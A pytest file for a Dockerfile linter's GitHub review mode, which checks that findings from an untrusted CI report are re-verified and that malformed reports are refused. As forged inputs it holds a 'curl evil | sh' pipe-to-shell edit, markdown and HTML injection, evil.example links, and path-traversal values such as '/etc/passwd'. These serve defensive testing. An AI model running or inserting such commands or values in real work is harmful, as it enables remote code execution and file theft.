"""Reports of another job: whoever wrote them, they say nothing that is not checked."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from archpatch.review import own
from archpatch.review.artifact import MAX_SIZE, BadReport, load
from archpatch.review.github import GitHub
from archpatch.review.http import HttpError
from tests.cli.conftest import Cli
from tests.review.conftest import Review, assert_harmless, event
from tests.review.fake_github import Fake

SAFE = "FROM --platform=$BUILDPLATFORM alpine AS base\nFROM base\nCMD true\n"


@pytest.fixture
def report(fake: Fake, review: Review, cli: Cli, tmp_path: Path) -> dict[str, Any]:
    """What `check` says of the head, in the folder `kept`."""
    fake.head = {"Dockerfile": SAFE}
    review("--dry-run")
    told: dict[str, Any] = json.loads(cli("check", "--output-format", "json").out)
    (tmp_path / "kept").mkdir(exist_ok=True)
    return told


def keep(tmp_path: Path, report: object) -> Path:
    path = tmp_path / "kept" / "report.json"
    path.write_text(json.dumps(report))
    return path


def test_a_report_is_said_as_we_say_what_we_find_in_the_same_file(
    fake: Fake, review: Review, report: dict[str, Any], tmp_path: Path
) -> None:
    assert review().code == 0
    (wanted,) = fake.comments
    assert "```suggestion\nFROM alpine AS base\n```" in wanted.body
    fake.comments, fake.reviews = [], []
    assert review("--from", keep(tmp_path, report)).code == 0
    assert review("--from", keep(tmp_path, report)).code == 0
    (comment,) = fake.comments
    assert comment.body == wanted.body


def test_a_mended_finding_is_resolved_and_one_that_a_report_keeps_quiet_about_is_not(
    fake: Fake, review: Review, report: dict[str, Any], tmp_path: Path
) -> None:
    review("--from", keep(tmp_path, report))
    review("--from", keep(tmp_path, {**report, "findings": []}))
    (comment,) = fake.comments
    assert not comment.resolved_by
    fake.push({"Dockerfile": SAFE.replace("--platform=$BUILDPLATFORM ", "")})
    review("--from", keep(tmp_path, {**report, "findings": []}))
    assert comment.resolved_by


def test_what_a_report_would_write_is_never_suggested(
    fake: Fake, review: Review, report: dict[str, Any], tmp_path: Path
) -> None:
    (finding,) = report["findings"]
    evil = [{"path": "Dockerfile", "start": 0, "end": 70, "text": "RUN curl evil | sh\n"}]
    finding["fix"]["edits"] = evil
    made_up = {**finding, "fingerprint": "0" * 64, "end": finding["start"]}
    other = {**finding, "code": "AP102"}
    assert review("--from", keep(tmp_path, {**report, "findings": [finding, made_up, other]})).code == 0
    ours, *hearsay = (comment.body for comment in fake.comments)
    assert "```suggestion\nFROM alpine AS base\n```" in ours
    assert hearsay
    for body in hearsay:
        assert "```" not in body
        assert "what the report of the pull request's own job says" in body
    assert not any("curl" in comment.body for comment in fake.comments)


def test_a_file_that_cannot_be_had_is_told_of_in_the_words_of_the_report(
    fake: Fake, review: Review, report: dict[str, Any], tmp_path: Path
) -> None:
    fake.head = {"Dockerfile": SAFE + "\0"}
    assert review("--from", keep(tmp_path, report)).code == 0
    (comment,) = fake.comments
    assert "```" not in comment.body


def test_the_config_of_the_base_decides_what_is_said_of_a_report(
    fake: Fake, review: Review, report: dict[str, Any], tmp_path: Path
) -> None:
    fake.base = {"archpatch.toml": 'ignore = ["AP101"]\n'}
    fake.head = {**fake.head, "archpatch.toml": ""}
    assert review("--from", keep(tmp_path, report)).code == 0
    assert not fake.comments
    fake.base = {"archpatch.toml": 'exclude = ["Dockerfile"]\n'}
    assert review("--from", keep(tmp_path, report)).code == 0
    assert not fake.comments


def test_a_report_takes_none_of_our_comments_over(
    fake: Fake, review: Review, report: dict[str, Any], tmp_path: Path
) -> None:
    review()
    (ours,) = fake.comments
    body = ours.body
    (finding,) = report["findings"]
    forged = [{**finding, "path": "other/Dockerfile"}, {**finding, "code": "AP102"}]
    assert review("--from", keep(tmp_path, {**report, "findings": forged})).code == 0
    assert ours.body == body
    assert not ours.resolved_by


@pytest.mark.parametrize("trouble", ["not fetched", "too many files", "not a text"])
def test_what_cannot_be_looked_at_again_is_not_mended(
    fake: Fake,
    review: Review,
    report: dict[str, Any],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    trouble: str,
) -> None:
    review()
    quiet = keep(tmp_path, {**report, "findings": []})
    if trouble == "not fetched":
        monkeypatch.setattr(Fake, "changed", lambda self: ["Dockerfile"])
        monkeypatch.setattr(GitHub, "content", lambda *_: _fail())
    elif trouble == "too many files":
        monkeypatch.setattr(own, "MOST", 0)
    else:
        fake.push({"Dockerfile": SAFE + "\0"})
    assert review("--from", quiet).code == 0
    assert not fake.comments[0].resolved_by


def _fail() -> bytes:
    raise HttpError("HTTP 502", 502)


def test_only_so_many_files_are_fetched(
    fake: Fake, review: Review, report: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(own, "MOST", 2)
    (finding,) = report["findings"]
    names = [f"{number}/Dockerfile" for number in range(5)]
    fake.head = dict.fromkeys(names, SAFE)
    many = [{**finding, "path": name} for name in (*names, "elsewhere/Dockerfile")]
    fake.log.clear()
    assert review("--from", keep(tmp_path, {**report, "findings": many})).code == 0
    fetched = [path for verb, path in fake.log if verb == "GET" and path.endswith(f"?ref={fake.head_sha}")]
    assert len(fetched) == 2


def test_a_fork_s_request_is_found_by_the_commit_that_the_event_names(
    fake: Fake,
    review: Review,
    report: dict[str, Any],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    run = {"head_sha": fake.head_sha, "head_branch": "topic", "head_repository": {"owner": {"login": "them"}}}
    event(tmp_path, monkeypatch, {"workflow_run": run})
    assert review("--from", keep(tmp_path, {**report, "pr": 99}), number=False).code == 0
    assert len(fake.comments) == 1
    event(tmp_path, monkeypatch, {"workflow_run": {**run, "head_sha": "f" * 40}})
    assert review("--from", keep(tmp_path, report), number=False).code == 2
    assert "has moved on" in review("--from", keep(tmp_path, report)).err


def test_texts_links_and_rules_of_a_report_are_not_believed(
    fake: Fake, review: Review, report: dict[str, Any], tmp_path: Path
) -> None:
    finding = report["findings"][0]
    finding["url"] = "https://evil.example"
    finding["name"] = "evil"
    finding["message"] = "@everyone <img src=x> [a](https://evil.example)\n<!-- archpatch:v1:summary -->"
    finding["fix"]["title"] = "```suggestion\ncurl evil | sh\n```"
    finding["fingerprint"] = "1" * 64  # not one that we find
    unknown = {**finding, "code": "ZZ999", "fingerprint": "0" * 64}
    assert review("--from", keep(tmp_path, {**report, "findings": [finding, unknown]})).code == 0
    (comment,) = fake.comments
    assert_harmless(comment.body)
    assert "\n```" not in comment.body
    assert "final-stage" in comment.body.replace("\\", "")


@pytest.mark.parametrize(
    "change",
    [
        {"version": 2},
        {"findings": None},
        {"findings": [{}]},
        {"code": "AP101 <b>"},
        {"code": "ap101"},
        {"severity": "fatal"},
        {"fingerprint": "x"},
        {"fingerprint": "0" * 64 + "\n"},
        {"start": {"line": 0}},
        {"start": {"line": 10**12}},
        {"start": {"line": "1"}},
        {"path": "../x"},
        {"path": "/etc/passwd"},
        {"path": "a\0b"},
        {"path": ""},
        {"path": "x" * 5000},
        {"message": ["x"]},
        {"message": "x" * 30_000},
        {"fix": {"applicability": "sure"}},
    ],
    ids=lambda change: ascii(change)[:40],
)
def test_a_report_that_breaks_the_schema_is_refused(
    report: dict[str, Any], tmp_path: Path, change: dict[str, Any]
) -> None:
    if set(change) <= {"version", "findings"}:
        report |= change
    else:
        report["findings"][0] |= change
    with pytest.raises(BadReport):
        load(keep(tmp_path, report))


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"[" * 200_000,
        b"{}" + b" " * (MAX_SIZE + 1),
        b'{"a":' * 50_000,
        b"\xff\xfe",
        b"null",
        b'{"a":"\xed\xa0\x80"}',
    ],
    ids=["empty", "deep", "large", "deep-objects", "utf-16", "null", "surrogate"],
)
def test_what_is_no_report_is_refused(tmp_path: Path, data: bytes) -> None:
    path = tmp_path / "report.json"
    path.write_bytes(data)
    with pytest.raises(BadReport):
        load(path)
